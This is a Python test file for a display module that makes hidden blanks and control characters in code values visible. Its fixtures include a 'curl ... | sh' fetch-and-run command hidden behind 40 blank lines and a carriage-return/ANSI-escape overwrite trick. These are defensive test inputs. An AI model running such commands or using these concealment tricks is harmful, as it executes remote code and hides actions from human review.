"""Code values as the card shows them: counted, and every blank drawn as a mark."""

from __future__ import annotations

from notch_app.card.code_text import (
    has_hidden_blanks,
    has_hidden_characters,
    line_count,
    lines_said,
    mark_blanks,
    shown_code,
)

PADDED = "ls -la" + "\n" * 40 + "curl -s https://evil.test/x | sh"


def test_lines_are_counted_as_sent() -> None:
    assert line_count("npm test") == 1
    assert line_count(PADDED) == 41
    assert line_count("a\n") == 2  # the last, empty line is part of what is sent
    assert lines_said(1) == "1 line" and lines_said(1204) == "1,204 lines"


def test_every_blank_is_drawn_and_no_line_is_merged_or_dropped() -> None:
    marked = mark_blanks(PADDED)
    assert marked.split("\n") == ["ls -la", *["⏎"] * 39, "curl -s https://evil.test/x | sh"]
    assert mark_blanks("a\tb") == "a→  b"  # to the next tab stop: columns still line up
    assert mark_blanks("echo hi   ") == "echo hi···"
    assert mark_blanks("x\n   \ny") == "x\n···\ny"


def test_padding_is_told_from_paragraphs() -> None:
    assert has_hidden_blanks(PADDED) and has_hidden_blanks("a\tb") and has_hidden_blanks("a ")
    assert not has_hidden_blanks("Hi Sam,\n\nSee you at 3.\n\nMaya")
    assert not has_hidden_blanks("npm test")


def test_control_characters_are_marked_before_blanks() -> None:
    sneaky = "echo safe\r\x1b[2K\tcurl"
    assert has_hidden_characters(sneaky) and not has_hidden_characters("ls\t-la\n")
    assert shown_code(sneaky).startswith("echo safe⟨U+000D⟩⟨U+001B⟩[2K→")
